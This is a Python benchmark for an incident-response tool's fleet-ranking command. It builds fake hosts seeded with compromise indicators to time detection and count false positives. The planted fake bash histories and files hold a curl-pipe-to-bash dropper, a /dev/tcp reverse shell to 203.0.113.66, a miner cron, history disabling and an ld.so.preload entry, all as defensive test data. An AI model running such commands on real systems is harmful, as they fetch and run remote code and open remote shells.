"""Benchmark of `triagent rank` over 1,000 bundles made by the real collector (goal: ranked in ≤ 60 s).

Twenty fake roots of different kinds (clean, attacker key, reverse shell, miner cron, dropper, history
off, ld.so.preload, the full fixture of tests/support/fakeroot.py ...) are built once; each of the 1,000 bundles
is `python -m agent collect --root COPY --profile triage` over a copy of one of them that has a
machine-id and hostname of its own, so the fleet holds 1,000 hosts. The build runs the collector two
at a time (its time is printed apart and is not the figure measured); rank is then timed alone, in its
own process, with its peak memory sampled over the process and its workers.

    .venv/bin/python tests/bench/bench_rank.py [--bundles 1000] [--roots 20] [--jobs N] [--work DIR [--reuse]]

The fleet-building helpers here are also used by tests/agent/responder/test_rank.py."""

from __future__ import annotations

import argparse
import concurrent.futures
import hashlib
import json
import os
import random
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

TESTS = Path(__file__).resolve().parents[1]
REPO = TESTS.parent
sys.path.insert(0, str(TESTS / "support"))

import fakeroot  # noqa: E402

OLD = time.time() - 400 * 86400  # mtimes older than every "changed in the last N days" rule
SHARED_C2 = "203.0.113.66"
FEATURES = ("attacker_key", "dropper", "revshell", "miner_cron", "history_off", "preload", "hidden_cron")


def make_keys(folder: Path) -> dict[str, tuple[str, str]]:
    """name -> (public key line, SHA256 fingerprint), made by the real ssh-keygen; the same keys are
    planted on several roots, which is what rank must notice."""
    keys = {}
    folder.mkdir(parents=True, exist_ok=True)
    for name in ("attacker", "corp"):
        path = folder / name
        if not path.exists():
            subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", f"{name}@example", "-f", str(path)],
                           check=True, stdin=subprocess.DEVNULL)
        fp = subprocess.run(["ssh-keygen", "-lf", f"{path}.pub"], check=True, capture_output=True, text=True)
        keys[name] = ((folder / f"{name}.pub").read_text().strip(), fp.stdout.split()[1])
    return keys


def _write(root: Path, path: str, data: str, mode: int = 0o644, old: bool = True) -> None:
    target = root / path.lstrip("/")
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(data)
    os.chmod(target, mode)
    if old:
        os.utime(target, (OLD, OLD))


def build_fleet_root(root: Path, name: str, features: set[str], keys: dict[str, tuple[str, str]],
                     seed: int = 0) -> None:
    """A small host: benign history and a corporate key on a normal user (old files: no finding), plus
    the planted ``features``; ``full`` adds the whole tests/support/fakeroot.py fixture with its cron."""
    rng = random.Random(seed)
    if "full" in features:
        fakeroot.build(root)
        fakeroot.plant_cron(root)
    else:
        _write(root, "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n"
               "alice:x:1000:1000:Alice:/home/alice:/bin/bash\n")
        _write(root, "/etc/group", "root:x:0:\nalice:x:1000:\n")
        _write(root, "/etc/os-release", 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\n')
        benign = ["ls -la", "systemctl status nginx", "df -h", "apt-get update", "journalctl -u ssh --since today",
                  f"ping -c1 10.{seed % 250}.{rng.randrange(250)}.1", "vim /etc/nginx/nginx.conf", "uptime"]
        _write(root, "/root/.bash_history", "\n".join(rng.sample(benign, 5)) + "\n", mode=0o600)
        _write(root, "/home/alice/.ssh/authorized_keys", keys["corp"][0] + "\n", mode=0o600)
    _write(root, "/etc/hostname", name + "\n")
    _write(root, "/etc/machine-id", hashlib.md5(name.encode()).hexdigest() + "\n")
    history = root / "root/.bash_history"
    planted = []
    if "dropper" in features:
        planted.append(f"curl -s http://198.51.100.{20 + seed % 5}/i.sh | bash")
    if "revshell" in features:
        planted.append(f"bash -i >& /dev/tcp/{SHARED_C2}/4444 0>&1")
    if "history_off" in features:
        planted.append("unset HISTFILE")
    if planted:
        with open(history, "a") as f:
            f.write("\n".join(planted) + "\n")
    if "attacker_key" in features:
        # fresh mtime on purpose: a key planted this week
        _write(root, "/root/.ssh/authorized_keys", f'from="{SHARED_C2}" {keys["attacker"][0]}\n', mode=0o600,
               old=False)
    if "miner_cron" in features:
        _write(root, "/etc/cron.d/sys", f"@reboot root /usr/local/bin/xmrig -o stratum+tcp://{SHARED_C2}:3333\n")
    if "hidden_cron" in features:
        _write(root, "/var/spool/cron/crontabs/root", "*/10 * * * * /var/tmp/.cache/upd\n", mode=0o600, old=False)
    if "preload" in features:
        _write(root, "/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libsys.so\n")


def collect(root: Path, out: Path) -> Path:
    """One bundle made by the real collector; returns its path."""
    out.mkdir(parents=True, exist_ok=True)
    proc = subprocess.run([sys.executable, "-m", "agent", "collect", "--root", str(root), "--profile", "triage",
                           "--output", str(out), "--no-nice"], cwd=REPO, capture_output=True,
                          stdin=subprocess.DEVNULL, timeout=300)
    lines = proc.stdout.decode().strip().splitlines()
    if not lines:
        raise RuntimeError(f"collect over {root} printed nothing: {proc.stderr.decode()[-1500:]}")
    bundle = json.loads(lines[-1]).get("bundle")
    if not bundle:
        raise RuntimeError(f"collect over {root} made no bundle: {lines[-1][:500]}")
    return Path(bundle)


def variant_features(index: int) -> set[str]:
    """Root 0 is clean, root 1 the full fixture, the rest planted combinations (a third of them clean)."""
    if index == 0:
        return set()
    if index == 1:
        return {"full"}
    rng = random.Random(index)
    if index % 3 == 0:
        return set()
    return set(rng.sample(FEATURES, rng.randint(1, 3)))


def build_fleet(work: Path, bundles: int, roots: int, jobs: int) -> tuple[Path, dict[str, set[str]], float]:
    keys = make_keys(work / "keys")
    variants = []
    for i in range(roots):
        root = work / "roots" / f"variant{i:02d}"
        if root.exists():
            shutil.rmtree(root)
        build_fleet_root(root, f"variant{i:02d}", variant_features(i), keys, seed=i)
        variants.append(root)
    fleet = work / "fleet"
    shutil.rmtree(fleet, ignore_errors=True)
    kinds: dict[str, set[str]] = {}

    def one(n: int) -> None:
        source = variants[n % roots]
        name = f"host{n:04d}"
        with tempfile.TemporaryDirectory(dir=work) as tmp:
            root = Path(tmp) / "root"
            shutil.copytree(source, root, symlinks=True)
            (root / "etc/hostname").write_text(name + "\n")
            (root / "etc/machine-id").write_text(hashlib.md5(name.encode()).hexdigest() + "\n")
            collect(root, fleet / name)
        kinds[name] = variant_features(n % roots)

    started = time.monotonic()
    with concurrent.futures.ThreadPoolExecutor(jobs) as pool:
        for future in concurrent.futures.as_completed([pool.submit(one, n) for n in range(bundles)]):
            future.result()
    return fleet, kinds, time.monotonic() - started


def timed_rank(fleet: Path, jobs: int | None) -> tuple[float, float, int, int, dict]:
    """(wall seconds, CPU seconds of rank and its workers, peak RSS of rank + workers summed, largest
    single process RSS, JSON result). CPU seconds do not depend on what else the machine runs."""
    import resource

    import psutil

    before = resource.getrusage(resource.RUSAGE_CHILDREN)

    cmd = [sys.executable, "-m", "agent.responder.rank", str(fleet), "--format", "json"]
    cmd += ["--jobs", str(jobs)] if jobs else []
    # output to files: a pipe nobody reads while we sample memory would fill and stall rank
    out, err = tempfile.TemporaryFile(), tempfile.TemporaryFile()
    started = time.monotonic()
    proc = subprocess.Popen(cmd, cwd=REPO, stdout=out, stderr=err)
    peak_sum = peak_one = 0
    watched = psutil.Process(proc.pid)
    while proc.poll() is None:
        try:
            tree = [watched, *watched.children(recursive=True)]
            sizes = []
            for p in tree:
                try:
                    sizes.append(p.memory_info().rss)
                except psutil.Error:
                    pass
            peak_sum, peak_one = max(peak_sum, sum(sizes)), max(peak_one, max(sizes, default=0))
        except psutil.Error:
            pass
        time.sleep(0.05)
    wall = time.monotonic() - started
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    cpu = after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime
    out.seek(0)
    err.seek(0)
    if proc.returncode != 0:
        raise RuntimeError(f"rank exited {proc.returncode}: {err.read().decode()[-2000:]}")
    return wall, cpu, peak_sum, peak_one, json.loads(out.read())


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--bundles", type=int, default=1000)
    parser.add_argument("--roots", type=int, default=20)
    parser.add_argument("--jobs", type=int, help="rank workers (default: the CPU count)")
    parser.add_argument("--build-jobs", type=int, default=2, help="collectors run at once while building")
    parser.add_argument("--work", help="keep the fleet here (reused with --reuse)")
    parser.add_argument("--reuse", action="store_true", help="rank the fleet already in --work")
    parser.add_argument("--live", type=int, default=0, metavar="N",
                        help="also rank N copies of one live triage bundle of this machine (processes, sockets: "
                        "the heavier kind a real fleet sends)")
    args = parser.parse_args()
    work = Path(args.work or tempfile.mkdtemp(prefix="bench-rank-"))
    work.mkdir(parents=True, exist_ok=True)
    try:
        if args.reuse:
            fleet, kinds, build_s = work / "fleet", {f"host{n:04d}": variant_features(n % args.roots)
                                                     for n in range(args.bundles)}, float("nan")
        else:
            fleet, kinds, build_s = build_fleet(work, args.bundles, args.roots, args.build_jobs)
            print(f"build: {args.bundles} bundles from {args.roots} roots with the real collector "
                  f"({args.build_jobs} at a time) in {build_s:.1f} s — not part of the measurement", flush=True)
        wall, cpu, peak_sum, peak_one, result = timed_rank(fleet, args.jobs)
        hosts = result["hosts"]
        clean = [h for h in hosts if not kinds.get(h["host_key"].split("/")[0])]
        false_positives = [h for h in clean if h["recommendation"] != "no" or (h["critical"] or 0) + (h["high"] or 0)]
        print(f"rank: {len(hosts)} bundles in {wall:.1f} s wall ({len(hosts) / wall:.1f} bundles/s; rank's own "
              f"figure {result['seconds']} s, export {result['export_seconds']} s), "
              f"peak RSS {peak_sum / 2**20:.0f} MiB "
              f"summed over the process and its workers (largest one {peak_one / 2**20:.0f} MiB); "
              f"CPU {cpu:.1f} s; load average {os.getloadavg()[0]:.1f} on {os.cpu_count()} CPUs; "
              f"goal ≤ 60 s: {'met' if wall <= 60 else 'NOT met'}")
        recs: dict[str, int] = {}
        for h in hosts:
            recs[h["recommendation"]] = recs.get(h["recommendation"], 0) + 1
        print(f"verdicts: {recs}; shared indicators: {len(result['shared_indicators'])}; "
              f"false positives on {len(clean)} clean hosts (full disk not 'no', or a high/critical finding): "
              f"{len(false_positives)}")
        for s in result["shared_indicators"][:5]:
            print(f"  shared {s['kind']} on {s['hosts']} hosts ({s['flagged_hosts']} flagged): {s['value'][:80]}")
        ok = wall <= 60 and not false_positives
        if args.live:
            live = work / "live"
            shutil.rmtree(live, ignore_errors=True)
            bundle = collect(Path("/"), work / "live-source")
            for n in range(args.live):
                (live / f"copy{n:04d}").mkdir(parents=True)
                shutil.copy(bundle, live / f"copy{n:04d}" / bundle.name)
            wall, cpu, peak_sum, peak_one, result = timed_rank(live, args.jobs)
            print(f"rank, live bundles: {args.live} copies of one live bundle ({bundle.stat().st_size >> 10} KiB) in "
                  f"{wall:.1f} s wall ({args.live / wall:.1f} bundles/s), CPU {cpu:.1f} s, load average "
                  f"{os.getloadavg()[0]:.1f}; peak RSS {peak_sum / 2**20:.0f} MiB summed "
                  f"(largest one {peak_one / 2**20:.0f} MiB)")
            ok = ok and wall <= 60
        return 0 if ok else 1
    finally:
        if not args.work:
            shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    raise SystemExit(main())
